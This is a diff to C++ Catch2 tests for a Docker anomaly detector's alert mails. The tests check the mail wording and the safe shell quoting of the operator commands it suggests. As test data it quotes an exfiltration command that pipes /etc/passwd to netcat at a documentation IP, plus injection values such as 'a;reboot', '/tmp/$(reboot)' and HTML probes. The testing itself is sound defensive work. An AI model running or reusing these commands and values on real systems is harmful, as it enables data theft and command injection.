@@ -3,6 +3,7 @@
 #include <catch2/catch.hpp>
 
 #include "analyzer/notify/alert_view.h"
+#include "analyzer/notify/answer_commands.h"
 #include "analyzer/notify/mail_html.h"
 #include "analyzer/notify/mail_message.h"
 #include "analyzer/notify/mail_text.h"
@@ -39,7 +40,8 @@ std::string flowing(const std::string& text) {
 SCENARIO("the subject says where and what") {
   const MailView view = make_view(test::command_injection(), {}, {});
   REQUIRE(view.subject ==
-          "[docker-anomalies] web (shop:1.4) on host7: /bin/dash never seen in this image (+6 more)");
+          "[docker-anomalies] web (shop:1.4) on host7: /bin/dash (started as sh) never seen in this image "
+          "(+6 more)");
   Notification one = test::command_injection();
   one.counts.clear();
   one.alerts = {test::python_departs()};
@@ -53,11 +55,13 @@ SCENARIO("a known program with a new parent is not called unknown") {
   note.alerts = {test::shell_starts()};
   note.alerts[0].kind = AlertKind::new_start;
   note.alerts[0].started_by = "/usr/sbin/cron";
-  REQUIRE(make_view(note, {}, {}).subject ==
-          "[docker-anomalies] web (shop:1.4) on host7: cron started /bin/dash, as it never did");
-  REQUIRE_THAT(flowing(text_of(note)),
-               Contains("/bin/dash was started by /usr/sbin/cron, which never started it while "
-                        "image shop:1.4 was learned."));
+  REQUIRE(
+      make_view(note, {}, {}).subject ==
+      "[docker-anomalies] web (shop:1.4) on host7: cron started /bin/dash (started as sh), as it never did");
+  REQUIRE_THAT(
+      flowing(text_of(note)),
+      Contains("/bin/dash (started as sh) was started by /usr/sbin/cron, which never started it while "
+               "image shop:1.4 was learned."));
   REQUIRE_THAT(flowing(text_of(note)), !Contains("never seen"));
 }
 
@@ -68,13 +72,16 @@ SCENARIO("a start from outside is told as one") {
   note.alerts[0].kind = AlertKind::new_start;
   note.alerts[0].started_by = kOutside;
   REQUIRE(make_view(note, {}, {}).subject ==
-          "[docker-anomalies] web (shop:1.4) on host7: /bin/dash started from outside, as never before");
-  REQUIRE_THAT(flowing(text_of(note)),
-               Contains("/bin/dash was started from outside the container (docker exec or a health check), "
-                        "which was never seen while image shop:1.4 was learned."));
+          "[docker-anomalies] web (shop:1.4) on host7: /bin/dash (started as sh) started from outside, as "
+          "never before");
+  REQUIRE_THAT(
+      flowing(text_of(note)),
+      Contains(
+          "/bin/dash (started as sh) was started from outside the container (docker exec or a health check), "
+          "which was never seen while image shop:1.4 was learned."));
   note.alerts[0].kind = AlertKind::new_executable;
   REQUIRE_THAT(flowing(text_of(note)),
-               Contains("/bin/dash was started from outside the container (docker exec "
+               Contains("/bin/dash (started as sh) was started from outside the container (docker exec "
                         "or a health check). No program of this name was ever seen"));
 }
 
@@ -82,13 +89,99 @@ SCENARIO("a mail names the commands by which an operator answers it") {
   Notification note = test::command_injection();
   note.alerts = {test::python_departs()};
   const std::string& id = note.alerts[0].id;
-  for (const std::string& mail : {text_of(note), render_html(make_view(note, {}, {})),
-                                  render_text(make_view(note, {}, {true, true}))}) {
+  ViewOptions options;
+  options.config_file = "/srv/da/analyzer.yaml";
+  ViewOptions bare = options;
+  bare.bare = true;
+  const MailView view = make_view(note, {}, options);
+  for (const std::string& mail :
+       {render_text(view), render_html(view), view.json, render_text(make_view(note, {}, bare))}) {
     for (const char* verb : {"show", "accept", "reject"})
-      REQUIRE_THAT(mail, Contains("analyzer alert " + std::string(verb) + " " + id + " --config FILE"));
+      REQUIRE_THAT(mail, Contains("analyzer alert " + std::string(verb) + " " + id +
+                                  " --config /srv/da/analyzer.yaml"));
   }
+  // On one line, to be pasted.
+  REQUIRE_THAT(render_text(view),
+               Contains("\n      analyzer silence add --container web --executable "
+                        "/usr/local/bin/python3.11 --for 24h --comment 'alert a-5d1c09e77a42' "
+                        "--config /srv/da/analyzer.yaml\n"));
+  REQUIRE_THAT(render_text(make_view(note, {}, bare)), !Contains("silence"));
   note.alerts[0].id = "a;reboot";
-  REQUIRE_THAT(text_of(note), !Contains("analyzer alert"));
+  REQUIRE_THAT(text_of(note), !Contains("analyzer "));
+}
+
+SCENARIO("what cannot be typed safely is in no command") {
+  Alert alert = test::python_departs();
+  const auto silence = [&] {
+    for (const AnswerCommand& command : answer_commands(alert, "")) {
+      if (command.key == std::string_view("silence")) return command.text;
+    }
+    return std::string();
+  };
+  REQUIRE(answer_commands(alert, "/etc/docker-anomalies/analyzer.yaml")[1].text ==
+          "analyzer alert accept a-5d1c09e77a42");
+  REQUIRE(answer_commands(alert, "a b'c")[1].text ==
+          "analyzer alert accept a-5d1c09e77a42 --config $'a b\\'c'");
+  alert.executable = "/tmp/$(reboot) [x]*";
+  REQUIRE_THAT(silence(), Contains("--executable '/tmp/$(reboot) \\[x]\\*' "));
+  for (const char* name : {"", "-x", "a\nb", "caf\xc3\xa9", "\x1b[2J"}) {
+    alert.executable = name;
+    REQUIRE(silence().empty());
+  }
+  alert.executable = std::string(300, 'a');
+  REQUIRE(silence().empty());
+  alert.executable = "/bin/sh";
+  alert.container_name.clear();
+  REQUIRE_THAT(silence(), Contains("--container " + alert.container_id));
+  alert.container_id.clear();
+  REQUIRE(silence().empty());
+}
+
+SCENARIO("an alert that a score raised has a picture of it; others have none") {
+  const Notification note = test::command_injection();
+  const MailView view = make_view(note, {}, {});
+  REQUIRE(view.pictures.size() == 1);
+  REQUIRE(view.pictures[0].png.substr(1, 3) == "PNG");
+  REQUIRE(view.pictures[0].png.size() < 30'000);
+  REQUIRE(view.alerts[0].picture == "score-1.inc-6b1f0c2ad94e7788.0@docker-anomalies");
+  REQUIRE(view.alerts[1].picture.empty());
+  REQUIRE_THAT(render_html(view),
+               Contains("<img src=\"cid:score-1.inc-6b1f0c2ad94e7788.0@docker-anomalies\"") &&
+                   Contains("alt=\"Score: at most 2 in the 14 minutes before, then 9; the threshold is 3\""));
+  REQUIRE_THAT(flowing(render_text(view)), Contains("before at most 2 in the 14 minutes before, then 9;"));
+
+  const auto has_picture = [&](auto change) {
+    Notification changed = note;
+    change(changed.alerts[0]);
+    return !make_view(changed, {}, {}).pictures.empty();
+  };
+  REQUIRE(has_picture([](Alert&) {}));
+  REQUIRE(has_picture([](Alert& alert) { alert.kind = AlertKind::new_call; }));
+  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.kind = AlertKind::new_executable; }));
+  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.scores = {}; }));  // of an earlier release
+  // What a store might give back.
+  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.scores.values.resize(10'000); }));
+  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.scores.step_ns = 0; }));
+  REQUIRE_FALSE(
+      has_picture([](Alert& alert) { alert.scores.step_ns = std::numeric_limits<std::int64_t>::max(); }));
+  REQUIRE_FALSE(
+      has_picture([](Alert& alert) { alert.scores.end_ns = std::numeric_limits<std::int64_t>::min(); }));
+  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.time_ns = std::numeric_limits<std::int64_t>::max(); }));
+  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.score = std::numeric_limits<double>::quiet_NaN(); }));
+  REQUIRE(has_picture([](Alert& alert) {
+    alert.scores.values = {std::numeric_limits<std::int32_t>::min(), 9};
+  }));
+  REQUIRE(has_picture([](Alert& alert) {
+    alert.scores.values = {std::numeric_limits<std::int32_t>::max(), 9};
+  }));
+
+  // A mail has few of them, and one of each program.
+  Notification many = note;
+  many.alerts.assign(10, note.alerts[0]);
+  REQUIRE(make_view(many, {}, {}).pictures.size() == 1);
+  for (std::size_t i = 0; i < many.alerts.size(); ++i)
+    many.alerts[i].executable += std::to_string(i);
+  REQUIRE(make_view(many, {}, {}).pictures.size() == 4);
 }
 
 SCENARIO("a thread unlike all others is told with what sets it apart") {
@@ -149,7 +242,7 @@ SCENARIO("the text says what happened, what led to it and what was expected") {
   REQUIRE_THAT(flow, Contains("9, 3 times the threshold of 3; it counts departures from known sequences "
                               "among the last 20 calls"));
   REQUIRE_THAT(flow, Contains("complete: no call of this thread was lost"));
-  REQUIRE_THAT(flow, Contains("/bin/dash was started by /usr/local/bin/python3.11."));
+  REQUIRE_THAT(flow, Contains("/bin/dash (started as sh) was started by /usr/local/bin/python3.11."));
   REQUIRE_THAT(flow, Contains("sh -c 'convert order.pdf; cat /etc/passwd|nc 203.0.113.9 4444'"));
   REQUIRE_THAT(flow, Contains("alert id a-0b9e3f1d2c55"));
   REQUIRE_THAT(flow, Contains("docker pause 4f66a1b2c3d4"));
@@ -159,7 +252,7 @@ SCENARIO("the text says what happened, what led to it and what was expected") {
   std::size_t longest = 0;
   for (std::size_t begin = 0; begin < text.size();) {
     const std::size_t end = text.find('\n', begin);
-    longest = std::max(longest, end - begin);
+    if (text.compare(begin, 15, "      analyzer ") != 0) longest = std::max(longest, end - begin);
     begin = end + 1;
   }
   REQUIRE(longest <= 78);
@@ -192,6 +285,9 @@ SCENARIO("follow-ups and last mails say what they are") {
   REQUIRE_THAT(flowing(text_of(note)), Contains("the incident is closed"));
   note.left_out = 12;
   REQUIRE_THAT(flowing(text_of(note)), Contains("12 of these were never shown in full"));
+  note.counts[0].unlike = 3;
+  REQUIRE_THAT(flowing(text_of(note)),
+               Contains("4 more, the last at 03:12:08; 3 of them showed something else"));
 }
 
 SCENARIO("what happened to other mails is told") {
@@ -239,7 +335,8 @@ SCENARIO("no hostile value leaves its place") {
     const std::string html = render_html(view);
     REQUIRE(is_plain(html));
     CAPTURE(value.substr(0, 40));
-    REQUIRE_THAT(html, !Contains("<script") && !Contains("<img") && !Contains("<a ") && !Contains("<!--"));
+    REQUIRE_THAT(html,
+                 !Contains("<script") && !Contains("<img src=x") && !Contains("<a ") && !Contains("<!--"));
     REQUIRE(text.size() < 40'000);
     REQUIRE_THAT(text, !Contains("docker pause"));  // its container id is no id
   }
@@ -290,9 +387,11 @@ SCENARIO("no hostile path, address or argument leaves its place, whichever habit
       const std::string html = render_html(view);
       REQUIRE(is_plain(text));
       REQUIRE(is_plain(html));
-      REQUIRE_THAT(html, !Contains("<script") && !Contains("<img") && !Contains("<a ") && !Contains("<!--"));
+      REQUIRE_THAT(html,
+                   !Contains("<script") && !Contains("<img src=x") && !Contains("<a ") && !Contains("<!--"));
       REQUIRE(text.size() < 40'000);
       REQUIRE(headline(note.alerts[0]).size() < 300);
+      REQUIRE(is_plain(view.alerts[0].picture_words));
     }
   }
 }
